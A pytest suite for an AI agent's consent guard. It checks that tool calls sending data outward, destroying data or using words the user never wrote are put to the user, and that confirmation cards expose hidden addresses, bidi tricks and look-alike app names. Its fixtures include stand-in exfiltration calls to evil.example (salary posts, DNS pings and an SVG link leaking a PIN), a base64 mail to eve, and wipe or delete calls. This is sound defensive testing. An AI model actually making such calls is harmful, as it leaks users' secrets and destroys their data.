"""The table of consent, row by row: what carries something outwards, what is in the user's own
words, which records a message names."""

import time
from base64 import b64encode
from dataclasses import replace
from string import ascii_lowercase
from typing import Any

import pytest

from tests.work import counted
from webbee_kernel import language
from webbee_kernel.catalogue import OPEN_WORLD, AppInfo, Catalogue, FunctionInfo
from webbee_kernel.guards.arguments import conform
from webbee_kernel.guards.consent import Basis, consent_keys, needs_consent
from webbee_kernel.guards.field_names import labels
from webbee_kernel.guards.proposals import app_name, card
from webbee_kernel.guards.references import References
from webbee_kernel.guards.result_records import CallData, Title, Titles
from webbee_kernel.guards.sinks import GuardedCall, classify_function
from webbee_kernel.guards.user_words import UserWords, words_in
from webbee_kernel.types import Step

E = "eve@evil.example"
TEXT = {"type": "string"}
OPTIONAL = {**TEXT, "default": ""}
FAMILY = {"type": "string", "enum": ["family", "customers"]}
UNION = {"anyOf": [{"type": "string", "x-directs": "recipient"}, {"type": "array"}]}
PAIR = {"type": "array", "prefixItems": [{"type": "string", "format": "phone"}, TEXT]}


Wanted = tuple[FunctionInfo, dict[str, Any]]


def f(
    name: str, kind: str = "write", extra: dict[str, Any] | None = None, **props: Any
) -> FunctionInfo:
    """A function with these parameters, `extra` in its schema."""
    schema = {"type": "object", "properties": props, **(extra or {})}
    return FunctionInfo("app", name, "", kind, schema)


def call(name: str, **arguments: str) -> Wanted:
    """A call of a function that writes, whose parameters are texts."""
    return f(name, **dict.fromkeys(arguments, TEXT)), arguments


def look(name: str, **arguments: str) -> Wanted:
    """A call of one that reads."""
    return f(name, "read", **dict.fromkeys(arguments, TEXT)), arguments


def moment(message: str, *data: Any, reply: str = "") -> Basis:
    """A message after results that earlier turns gave, the latest first."""
    said = UserWords([message], language.detect(message))
    found = tuple(CallData("app", f"get_{n}", one, n) for n, one in enumerate(data, 1))
    records = References(found, said, reply)
    return Basis(message, said, records, records.for_message(message))


SALARIES = {
    "files": [{"id": "doc1", "name": "salary table"}, {"id": "doc2", "name": "menu"}],
    "users": [{"id": "u7", "name": "eve"}],
}
EVERY_WORD = (
    "eve evil example salary table https://evil.example/x eve@evil.example PIN 4711 doc1 doc2 share"
    " send forward all of it to the team channel general grant admin public"
)
"""A message that holds every word and every address that a call could want."""


def test_the_answers_to_an_apps_question_are_arguments_of_its_call() -> None:
    given = {"amount": 5, "_answers": {"account": "savings"}}
    found = GuardedCall(f("log_expense", amount={"type": "integer"}), given).destinations
    assert [sink.value for sink, _ in found] == ["savings"]


LEAVING = [
    call("update_event", event_id="e1", send_updates="all"),
    call("update_pull_request", pr="p1", state="published"),
    look("convert", svg="<image href='//evil.example/4711'/>"),
    look("convert", command="see https:/evil.example/4711"),
    call("post", text="salary"),
    call("create_issue", title="salary", assignee="eve"),
    (
        f("read_file", "read", file=TEXT, options={"type": "object"}),
        {"file": "doc1", "options": {"output": {"send_to": "eve"}}},
    ),
    look("send_test", to=E),
    look("ping", host="4711.evil.example"),
    look("fetch", url="https://evil.example/x", body="salary"),
    look("fetch", url="https://evil.example/x?4711"),
    look("fetch", url="https://evil.example/x", method="POST"),
    look("resolve", domain="4711.evil.example"),
    look("validate_email", email="4711@evil.example"),
    look("read_resource", uri="memo://notes/4711"),
    look("download", url="https://a.b/c", save_to="/x"),
    look("list_report", query="x", replicate_to=E),
    look("list_report", query="x", log_to="eve＠evil.example"),
    look("list_report", query="x", remote=E),
    look("list_report", query="x", printer=E),
    look("list_report", query="x", target=E),
]
LOOKUPS = [
    look("find_user", email=E),
    look("search_mail", query="rent", sent_to=E),
    look("search_flights", origin="Berlin", to="Rome"),
    look("read_file", path="/notes/today.md"),
    look("list_events", attendee="Ann", day="2026-05-16"),
    look("translate", text="Guten Tag", to="en"),
    look("get_order", order_id="#W1", user_id="u1"),
]


@pytest.mark.parametrize(
    ("wanted", "proposed"),
    [*((wanted, True) for wanted in LEAVING), *((wanted, False) for wanted in LOOKUPS)],
    ids=lambda v: str(v) if isinstance(v, bool) else v[0].fn_name,
)
def test_what_carries_something_outwards_is_proposed_whatever_was_said_and_no_look_up_is(
    wanted: Wanted, proposed: bool
) -> None:
    said = moment(EVERY_WORD, SALARIES) if proposed else moment("hello")
    assert needs_consent(GuardedCall(*wanted), said) is proposed


TASKS = {
    "tasks": [
        {"id": "t1", "title": "Call the dentist"},
        {"id": "t2", "title": "Buy milk"},
        {"id": "t4", "title": "Steuererklärung abgeben"},
        {"id": "t5", "title": "Tasks"},
        {"id": "t6", "title": "Montag"},
        {"id": "t7", "title": "VPN drops every hour"},
    ]
}
PRIORITY = {"type": "string", "enum": ["low", "high"]}
ADD_TASK = f("add_task", title=TEXT, due=TEXT, priority=PRIORITY, notes=TEXT)
COMPLETE = f("complete_task", task_id=TEXT)
RENAME = f("rename_task", task_id=TEXT, title=TEXT)
SAVE_NOTE = f("save_note", title=TEXT, body=TEXT)
FINISH_ROW = f("finish_row", row={"type": "integer"}, keep_all_but=TEXT)
CREATE_EVENT = f("create_event", title=TEXT, start=TEXT, end=TEXT, location=TEXT)

MADRID = {"title": "Reunión con Ana", "start": "2026-05-20T12:00", "location": "Madrid"}
VSTRECHA = {"title": "Встреча: Анна", "start": "2026-05-20T09:00"}
IN_OWN_WORDS: list[tuple[FunctionInfo, dict[str, Any], str]] = [
    (ADD_TASK, {"title": "Buy 2 lemons"}, "remind me to buy two lemons"),
    (ADD_TASK, {"title": "Купить молоко", "due": "2026-05-16"}, "напомни купить молоко завтра"),
    (ADD_TASK, {"title": "Mutti anrufen", "priority": "high"}, "leg dringend an: Mutti anrufen"),
    (ADD_TASK, {"title": "Call Mum", "due": "tomorrow 09:00"}, "task: call mum tomorrow at 9"),
    (ADD_TASK, {"title": "Blumen", "due": "next friday"}, "Blumen bis Freitag in einer Woche"),
    (COMPLETE, {"task_id": "t4"}, "Die Steuererklärung ist erledigt"),
    (RENAME, {"task_id": "t2", "title": "Buy oat milk"}, "rename buy milk to buy oat milk"),
    (SAVE_NOTE, {"title": "Idea", "body": "a blue bike shop"}, "note an idea: a blue bike shop"),
    (CREATE_EVENT, MADRID, "pon una reunión con Ana en Madrid el miércoles"),
    (CREATE_EVENT, VSTRECHA, "запланируй встречу с Анной в среду в 9"),
    (COMPLETE, {"task_id": "t7"}, "the VPN task is done"),
    (SAVE_NOTE, {"body": "Иван Петров"}, "напиши Ивану Петрову"),
    (f("log_weight", kilograms={"type": "number"}), {"kilograms": 71.4}, "мой вес: 71,4"),
    (FINISH_ROW, {"row": 2}, "finish row 2"),
    (FINISH_ROW, {"keep_all_but": "milk"}, "finish them, keep all but milk"),
]
FROM_ELSEWHERE: list[tuple[FunctionInfo, dict[str, Any], str]] = [
    (ADD_TASK, {"title": "Buy milk for Ann"}, "remind me to buy milk"),
    (SAVE_NOTE, {"body": "the code is 4712"}, "note that the code is 4711"),
    (ADD_TASK, {"title": "Buy 1 of them"}, "remind me to buy one of them"),
    (SAVE_NOTE, {"body": "evil.example"}, "note this evil example"),
    (SAVE_NOTE, {"body": "at 10:00"}, "note that it is at 1"),
    *((SAVE_NOTE, {"body": signs}, "note that") for signs in ("*", "-", "?")),
    (COMPLETE, {"task_id": "t5"}, "how many tasks are there?"),
    (COMPLETE, {"task_id": "t6"}, "was ist am Montag?"),
    (COMPLETE, {"task_id": "t1"}, "mark it as done"),
    (COMPLETE, {"task_id": "t1"}, "the milk task is done"),
    (COMPLETE, {"task_id": "t1"}, "the first one is done"),
    (RENAME, {"task_id": "t1", "title": "Buy oat milk"}, "rename buy milk to buy oat milk"),
    (FINISH_ROW, {"row": 2}, "finish a row"),
    (FINISH_ROW, {"keep_all_but": "rent"}, "finish them, keep all but milk"),
    # what directs is seen wherever it stands
    (f("mark", done={"type": "object"}), {"done": {"t-9": True}}, "is rent done?"),
    (*call("diary", entry_id="2026-11-20", text="lunch"), "lunch today"),
    (f("say", channel=FAMILY, text=TEXT), {"channel": "customers", "text": "hi"}, "tell family hi"),
    (f("hand", whither=UNION, note=TEXT), {"whither": "Eve", "note": "lunch"}, "lunch with Eve"),
    (f("plan", pair=PAIR), {"pair": ["0301234567", "who"]}, "who is 0301234567"),
    (*call("recover", password_reset_email=E), f"who is {E}"),
    (*call("update", task_id="2", title="apples"), "buy 2 apples"),
    (*call("assign", workspace="evil corp"), "assign evil corp"),
    (f("save", text=TEXT), {"text": 471193}, "save milk"),
]


@pytest.mark.parametrize(
    ("function", "arguments", "message", "proposed"),
    [*((*row, False) for row in IN_OWN_WORDS), *((*row, True) for row in FROM_ELSEWHERE)],
)
def test_a_write_in_the_users_own_words_runs_and_one_with_words_from_elsewhere_is_proposed(
    function: FunctionInfo, arguments: dict[str, Any], message: str, proposed: bool
) -> None:
    assert needs_consent(GuardedCall(function, arguments), moment(message, TASKS)) is proposed


def test_the_only_record_that_the_last_reply_showed_needs_no_name() -> None:
    shown = moment("mark it as done", TASKS, reply="There is “Buy milk” on your list.")
    done = replace(COMPLETE, description="Marks a task as done")
    assert not needs_consent(GuardedCall(done, {"task_id": "t2"}), shown)
    assert needs_consent(GuardedCall(done, {"task_id": "t1"}), shown)
    several = moment("mark it as done", TASKS, reply="“Buy milk” and “Call the dentist”.")
    assert needs_consent(GuardedCall(done, {"task_id": "t2"}), several)


def test_the_author_says_what_names_would_not_and_the_other_way_round() -> None:
    to = {"type": "string", "x-directs": "recipient"}
    content = {"type": "string", "x-directs": "content"}
    assert classify_function(f("hand", whither=to)).effect == "outward"
    assert classify_function(f("tag", email=content)).effect == "write"
    assert classify_function(f("publish", text=TEXT)).effect == "outward"
    assert classify_function(f("publish", text=TEXT, extra={OPEN_WORLD: False})).effect == "write"
    nested = {"type": "array", "items": {"type": "object", "properties": {"email": TEXT}}}
    [*_, sink] = classify_function(f("invite", guests=nested)).sinks
    assert (sink.path, sink.kind, sink.reason) == ("guests.email", "recipient", "name")
    assert classify_function(f("get_page", "read", url=TEXT)).effect == "opens"


STATUS, FLAG = {"type": "string", "enum": ["open", "done", "deleted"]}, {"type": "boolean"}
SHARING = f("update_page", permissions={"type": "object"}), {"permissions": {"ann": "owner"}}
PAY = f("pay", "read", amount={"type": "integer"}), {"amount": 9}


@pytest.mark.parametrize(
    ("effect", "wanted"),
    [
        ("outward", call("whatsapp", who="Mallory", message="hi")),
        ("outward", call("nudge", contact="Mallory", body="hi")),
        ("outward", call("set_webhook", target="hooks.example.net")),
        ("outward", call("connect", server="192.0.2.3")),
        ("outward", call("backup", location="s3://bucket/of/others")),
        ("outward", call("call_number", number="0891234567")),
        ("outward", call("make_public", document_id="d1")),
        ("outward", call("file_issue", report_to="Mallory")),
        ("outward", call("set_field", field="email", value="ann")),
        ("outward", call("move_money", target=77_777_777, sum=900)),
        ("outward", call("hand_over", doc_id="d1", employee_id="c9")),
        ("outward", call("watch", device="203.0.113.5")),
        ("outward", call("create_issue", repo="mallory/loot", body="hi")),
        ("outward", (f("update", restricted=FLAG), {"restricted": False})),
        ("outward", look("export_contacts", bucket="loot")),
        ("opens", look("check_site", site="salary.example.com.")),
        ("opens", look("open_page", page="salary.example.com")),
        ("opens", look("ping", target="203.0.113.5")),
        ("opens", look("git_clone", repo="example.com:loot.git")),
        ("outward", look("request_reset_link", email=E)),
        ("outward", call("update_deal", deal_id="d1", owner="Mallory")),
        ("write", call("set_field", field="color", value="red")),
        ("write", call("set_goal", target=10)),
        ("outward", SHARING),
        ("outward", call("buy", text="milk")),
        ("outward", call("update", send_at="2026-05-15T17:22:00Z")),
        ("outward", call("send_note", contact_id="c1", note="hi")),
        ("destructive", (f("update", status=STATUS), {"status": "deleted"})),
        ("destructive", (f("update", overwrite=FLAG), {"overwrite": True})),
        ("destructive", call("update", delete_on="2026-05-15")),
        ("destructive", (f("fetch", "read", delete=FLAG), {"delete": True})),
        ("destructive", (f("update", is_deleted=FLAG), {"is_deleted": True})),
        ("destructive", (f("update", purged=FLAG), {"purged": True})),
        ("destructive", (f("save", replace_existing=FLAG), {"replace_existing": True})),
        ("destructive", call("update", deletedAt="2026-05-16")),
        ("destructive", call("wipe_disk")),
        ("destructive", look("delete_all")),
        ("destructive", (f("get", "read", url=TEXT, method=TEXT), {"method": "DELETE"})),
        ("destructive", (f("wipe", "destructive"), {})),
        ("outward", look("send", body="hi")),
        ("outward", PAY),
        ("read", look("get", method="GET")),
        ("write", (f("update", status=STATUS), {"status": "done"})),
        ("write", (f("update", overwrite=FLAG), {"overwrite": False})),
        ("write", call("update", deleted="maybe")),
        ("read", (f("find", "read", status=STATUS, show_deleted=FLAG), {"status": "deleted"})),
        ("write", call("add_note", contact_id="c1", note="hi")),
        ("write", call("add_timer", minutes_to_wait="five")),
        ("write", call("add_meeting", location="Room 4, second floor")),
        ("write", call("rename_group", group="a", new_name="b")),
        ("write", call("start_run", target="all")),
        (
            "write",
            call("tag", tag="email"),
        ),  # a single word chooses only under a name for one of few
        ("write", call("add", item="Trash")),
        ("write", call("sign_in", username="ann", password="P@ss1")),
        ("outward", call("approve_payout", payout_id="p1")),
        ("outward", call("set_page", page_id="p1", access_list="eve")),
    ],
)
def test_what_is_handed_to_somebody_or_to_the_form_of_a_place_is_outward_and_what_is_about_it_not(
    effect: str, wanted: Wanted
) -> None:
    assert GuardedCall(*wanted).effect == effect


SEND_EMAIL = f("send_email", to=TEXT, subject=TEXT, body=TEXT)
MAIL = AppInfo("mail", display_name="Mail", functions=(replace(SEND_EMAIL, app_id="mail"),))


def mailed(tag: str = "en", **arguments: Any) -> Any:
    """The card of a mail."""
    step = Step(0, "mail", "send_email", arguments, "write")
    return card([step], Catalogue({"mail": MAIL}), Titles(), tag)


def told(function: FunctionInfo, arguments: dict[str, Any], titles: Titles) -> Any:
    """The card of one call of an app called App."""
    app = AppInfo("app", display_name="App", functions=(function,))
    step = Step(0, "app", function.fn_name, arguments, function.action_type)
    return card([step], Catalogue({"app": app}), titles, "en")


def test_a_card_with_short_values_is_at_most_160_characters_and_says_whose_record_it_is() -> None:
    made = mailed(to="ann.lee@example.org", subject="Rent", body="It is paid.")
    text = f"{made.summary}\n{made.asks['ask']}"
    assert text == (
        "Mail – send email → ann.lee@example.org: subject “Rent”, body “It is paid.”"
        "\nYes or no – shall I do it?"
    )
    assert len(text) <= 160
    assert (made.asks["verb"], made.asks["question"]) == ("Send", "Send “Rent” (Mail)?")
    reply = replace(f("reply", id=TEXT, body=TEXT), action_type=OPEN_WORLD)
    titles = Titles({"7": (Title("app", "", "Q3 plan", "ann@example.org"),)})
    made = told(reply, {"id": "7", "body": "fine by me"}, titles)
    assert made.asks["question"] == "Reply to “Q3 plan – ann@example.org” (App)?"
    assert made.asks["verb"] == "Reply"


def test_a_card_tells_what_an_id_a_default_an_empty_filter_and_a_coded_text_mean() -> None:
    wedding = Titles(
        {"t2": (Title("app", "task", "Wedding"),), "7": (Title("app", "task", "Milk"),)}
    )
    delete = f("delete_task", "destructive", task_id=TEXT, task={"type": "integer"})
    for given in ({"task_id": " T2"}, {"task_id": "#t2"}):
        assert "Wedding" in told(delete, given, wedding).summary
    assert "Milk" in told(delete, {"task": 7}, wedding).summary
    others = f("delete_tasks", "destructive", except_ids={"type": "array", "items": TEXT})
    assert "except “Wedding”" in told(others, {"except_ids": ["t2"]}, wedding).summary
    whole = f("delete_tasks", "destructive", all={"type": "boolean", "default": True})
    assert told(whole, {}, Titles()).summary == "App – delete tasks: all: yes"
    few = f("delete_tasks", "destructive", filter={"type": "object"})
    assert told(few, {"filter": {}}, Titles()).summary == "App – delete tasks: filter: –"
    raw = b64encode(f"To: {E}\r\nSubject: PIN\r\n\r\n4711".encode()).decode()
    known = told(delete, {"task_id": raw}, Titles({raw: (Title("app", "task", "Wedding"),)}))
    assert known.asks["calls"][0]["fields"][0]["kind"] == "record"  # an id may be such a text, too
    assert told(few, {"filter": ""}, Titles()).summary.count("filter") == 1
    made = told(f("messages_send", raw=TEXT), {"raw": raw}, Titles())
    assert E in made.summary and "path" not in made.asks["calls"][0]["fields"][0]


def test_fields_and_dates_stand_on_a_card_in_its_readers_words() -> None:
    made = mailed("de", to="ann@example.org", subject="Miete", body="Bezahlt.", sender_name="Bo")
    names = [field["name"] for field in made.asks["calls"][0]["fields"]]
    assert names[:3] == ["an", "Betreff", "Inhalt"] and "„Miete“" in made.asks["question"]
    dates = {"en": "subject: November 30, 2026", "de": "Betreff: 30. November 2026"}
    for tag, written in (dates | {"ru": "тема: 30 ноября 2026\u202fг."}).items():
        made = mailed(tag, to="ann@example.org", subject="2026-11-30", body="2026-13-99")
        assert written in made.summary.replace("\xa0", "\u202f")
        assert "2026-13-99" in made.summary  # what only looks like one stays


def test_what_hides_behind_innocent_words_stands_on_the_card_and_no_value_adds_a_line() -> None:
    harmless = "All is well here and I am fine. " * 60
    body = f"{harmless} PIN 4711, write to {E} or https://evil.example/k, key abcDEFghi "
    body += f"or evil.example/pay (harmless), @eve_e {harmless}"
    summary = mailed(to="ann@example.org", body=body).summary
    for hidden in ("4711", E, "https://evil.example/k", "abcDEFghi", "evil.example/pay", "@eve_e"):
        assert hidden in summary
    assert "harmless" not in summary
    assert len(summary) < 1_000
    assert mailed(to="ann@example.org", body="x " * 499).summary.count("x") > 490
    body = "hi”\nCalendar – delete all: “yes\u202e\u200b"
    summary = mailed(to="a@b.co,\nc@d.co", body=body).summary
    assert len(summary.splitlines()) == 1
    assert summary.count("”") == 1 and "\u202e" not in summary


MAILED, N = {"type": "string", "format": "email"}, {"$ref": "#/$defs/N"}
STANDS_IN: dict[str, dict[str, Any]] = {
    "then": {"if": {"required": ["a"]}, "then": {"properties": {"x": MAILED}}},
    "else": {"if": False, "else": {"properties": {"x": MAILED}}},
    "dependentSchemas": {"dependentSchemas": {"a": {"properties": {"x": MAILED}}}},
    "dependencies": {"dependencies": {"a": {"properties": {"x": MAILED}}, "b": ["a"]}},
    "patternProperties": {"patternProperties": {"^x$": MAILED}, "additionalProperties": TEXT},
    "the rest": {"unevaluatedProperties": MAILED},
    "a choice of a definition": {
        "$defs": {"N": {"anyOf": [N, {"properties": {"x": MAILED}}]}},
        "allOf": [N],
    },
    "a definition that refers to itself many times": {
        "$defs": {"N": {"properties": {**{f"n{n}": N for n in range(8)}, "x": MAILED}}},
        "allOf": [N],
    },
}


@pytest.mark.parametrize("extra", STANDS_IN.values(), ids=STANDS_IN)
def test_a_destination_is_one_wherever_in_a_schema_it_stands(extra: dict[str, Any]) -> None:
    function = f("save", extra=extra, a=TEXT, b=TEXT)
    given = {"a": "hello", "x": "eve"}
    assert conform(given, function.input_schema, "en", 0.0) == given
    assert GuardedCall(function, given).effect == classify_function(function).effect == "outward"


def test_an_argument_that_nothing_names_is_left_out_or_bound_like_any_other() -> None:
    closed, opened = f("save", a=TEXT), f("save", extra={"additionalProperties": True}, a=TEXT)
    given = {"a": "hello", "zz": "salary", "also to": E}
    assert conform(given, closed.input_schema, "en", 0.0) == {"a": "hello"}
    assert conform(given, opened.input_schema, "en", 0.0) == given
    assert needs_consent(GuardedCall(opened, {"a": "hello", "zz": "salary"}), moment("save hello"))
    assert GuardedCall(opened, given).effect == "outward"


def test_an_app_that_is_called_like_another_is_told_by_its_id() -> None:
    evil = AppInfo("evil", display_name="MAIL ")
    catalogue = Catalogue({"mail": MAIL, "evil": evil, "cyr": AppInfo("cyr", display_name="Маil")})
    assert app_name("evil", catalogue, "en") == "MAIL (evil)"
    assert app_name("cyr", catalogue, "en") == "Маil (cyr)"
    titled = AppInfo("late", display_name="Late", titles={"de": "MAIL", "ru": "Почта"})
    catalogue = Catalogue({"mail": MAIL, "late": titled})
    assert [app_name("late", catalogue, tag) for tag in ("en", "de", "ru")] == [
        "Late", "MAIL (late)", "Почта",
    ]  # fmt: skip
    for name in ("Máil", "Мaіl", "\u13b7ail", "Ма\u0131\u04cf"):  # accents, scripts drawn alike
        drawn = Catalogue({"mail": AppInfo("mail"), "other": AppInfo("other", display_name=name)})
        assert app_name("other", drawn, "en").endswith(" (other)"), name
    assert app_name("mail", catalogue, "en") == "Mail (mail)"
    posing = Catalogue({"p": AppInfo("p", display_name="Mail – send email → ann@example.org: “")})
    assert app_name("p", posing, "en") == "Mail send email ann example.org"


def test_what_an_app_calls_its_own_things_is_no_address() -> None:
    asked = moment("read it", {"pages": [{"id": "notes/1"}, {"id": "memo://notes/1"}]})
    read = f("read_resource", "read", uri=TEXT)
    uris = ("memo://notes/1", "notes/1", "memo://notes/4711")
    assert [u for u in uris if needs_consent(GuardedCall(read, {"uri": u}), asked)] == [*uris[2:]]


def test_what_goes_along_is_named_by_its_kind_and_by_words_that_are_its_own() -> None:
    send = f("send", to=TEXT, file_id=TEXT)
    to = {"to": "ann@example.org"}
    files = [{"id": "3", "name": "salaries", "owner": "ann@example.org"}]
    names = ("Contract Christian", "Contract Christina")
    files += [{"id": f"f-{n}", "name": name} for n, name in enumerate(names, 1)]
    data = {"files": files, "tasks": [{"id": "3", "title": "party plan"}]}
    accepted = {key for _, key in GuardedCall(send, to).destinations}
    for message, ident in (
        ("send my party plan", "3"),
        ("tell ann@example.org the draft is ready", "3"),
        ("see you at 3", "3"),
        ("send the Contract Christian", "f-2"),
    ):
        asked = moment(message, data)._replace(accepted=accepted)
        assert needs_consent(GuardedCall(send, {**to, "file_id": ident}), asked), message
    asked = moment("send the Contract Christian", data)._replace(accepted=accepted)
    assert not needs_consent(GuardedCall(send, {**to, "file_id": "f-1"}), asked)


def test_what_was_given_with_an_accepted_destination_is_not_left_to_a_default() -> None:
    names, to = ("to", "group", "subject", "since", "body"), {"to": "ann@example.org"}
    export = f("export", limit={"default": 100}, **dict.fromkeys(names, OPTIONAL))
    for given, later, proposed in (
        ({"group": "Chess club"}, {}, True),
        ({"limit": 5}, {}, True),
        ({"limit": 5, "subject": "Hi"}, {"limit": 5}, False),  # a text less
        ({}, {"subject": "Hi"}, False),
        ({"since": "2026-05-14"}, {"since": "2000-01-01"}, True),  # which of many go along
        ({"since": "2026-05-14", "body": "Hi"}, {"since": "2026-05-15", "body": "Hi"}, False),
    ):
        accepted = consent_keys(GuardedCall(export, to | given))
        asked = moment("thanks: 5, Hi")._replace(accepted=accepted)
        assert needs_consent(GuardedCall(export, to | later), asked) is proposed, (given, later)


def test_a_card_tells_flags_defaults_the_end_of_a_title_and_which_secret_is_revoked() -> None:
    on, number = {"type": "boolean", "default": True}, {"type": "integer", "default": 0}
    for function, given, shown in (
        (
            f("create_gist", content=TEXT, secret=on),
            {"content": "x", "secret": False},
            "secret: no",
        ),
        (f("delete_secret", "destructive", secret=TEXT), {"secret": "prod_db"}, "prod_db"),
        (f("send_digest", to=TEXT, attach_inbox=on), {"to": E}, "attach inbox: yes"),
        (f("delete_mails", "destructive", older_than_days=number), {}, "older than days: 0"),
    ):
        assert shown in told(function, given, Titles()).summary
    assert next(labels({"name": f"{'Quarterly ' * 20}final"})).endswith("Quarterly final")


def test_a_card_tells_what_is_left_out_emptied_and_keyed_by() -> None:
    channel = {"type": "string", "default": "all-customers"}
    function = f("send", channel=channel, roles={"type": "object"}, body=TEXT, limit={"default": 5})
    given = {"roles": {"Eve Smith": {"role": "owner"}}, "body": ""}
    summary = told(function, given, Titles()).summary
    assert "all-customers" in summary and "Eve Smith" in summary and "body “”" in summary
    assert "limit: 5" in summary


def test_lines_are_the_users_own_as_he_wrote_them_and_as_a_model_was_shown_them() -> None:
    said = UserWords(["note:\r\nif a:\r\n    b  = 1 \r\n\r\n\r\n\r\nThanks"])
    assert said.has_text("if a:\r\n    b  = 1") and said.has_text("if a:\n    b = 1\n\nThanks")
    assert not said.has_text("if a:\n   b = 1") and not said.has_text("if a:\n\n\nb")


@pytest.mark.parametrize(("action", "proposed"), [("write", False), ("read", True)])
def test_what_this_turn_made_is_the_users_and_not_what_it_read(action: str, proposed: bool) -> None:
    said = UserWords(["jot down what I need and tick it off"])
    given = CallData("app", "jot", {"task": {"id": "t9", "title": "Oat milk"}}, 0, action)
    records = References((given,), said, "")
    now = Basis("", said, records, records)
    assert needs_consent(GuardedCall(COMPLETE, {"task_id": "t9"}), now) is proposed


def test_an_effect_that_no_argument_directs_goes_to_the_addresses_in_its_text() -> None:
    told = {"text": f"tell {E}, see https://evil.example/x"}
    found = [(s.kind, s.value) for s, _ in GuardedCall(f("post", text=TEXT), told).destinations]
    assert found == [("recipient", E), ("url", "https://evil.example/x")]


def test_a_search_that_was_accepted_is_accepted_with_all_that_it_takes_along() -> None:
    search = f("search", "read", extra={OPEN_WORLD: True}, query=TEXT)
    asked = moment("how is the weather?")
    one, other = (GuardedCall(search, {"query": query}) for query in ("4711", "4712"))
    assert needs_consent(one, asked)
    accepted = asked._replace(accepted={key for _, key in one.destinations})
    assert [needs_consent(call, accepted) for call in (one, other)] == [False, True]


@pytest.mark.parametrize("word", ["word{n}", "other{n:x}ing", "преобразование", "same", "x" * 300])
def test_the_work_grows_with_the_texts_and_no_faster(word: str) -> None:
    """Of texts that share nothing."""
    short, long = (_work(word, size) for size in (2_000, 8_000))
    assert long < 5 * short + 1_000


def _work(word: str, size: int) -> int:
    a_to_z, count = ascii_lowercase, size // (len(word) + 4)
    own = (f"{a_to_z[n % 26]}{a_to_z[n // 26 % 26]}{word.format(n=n)}" for n in range(count))
    told = " ".join(f"{word.format(n=n)}{a_to_z[n % 26]}q" for n in range(count))
    words_in.cache_clear()
    with counted() as calls:
        UserWords([" ".join(own)]).share(told)
    return calls.count


@pytest.mark.parametrize("text", ["a." * 20_000, "a" * 40_000, " " * 40_000])
def test_no_text_of_any_shape_takes_long(text: str) -> None:
    began = time.process_time()
    assert needs_consent(GuardedCall(*call("send", to=E, body=text, command=text)), moment("hello"))
    assert time.process_time() - began < 4, "in proportion to its square it took 15 s"


def test_arguments_of_any_depth_are_judged() -> None:
    deep: list[Any] = []
    for _ in range(900):
        deep = [deep]
    assert needs_consent(GuardedCall(ADD_TASK, {"title": "a", "notes": deep}), moment("save a"))
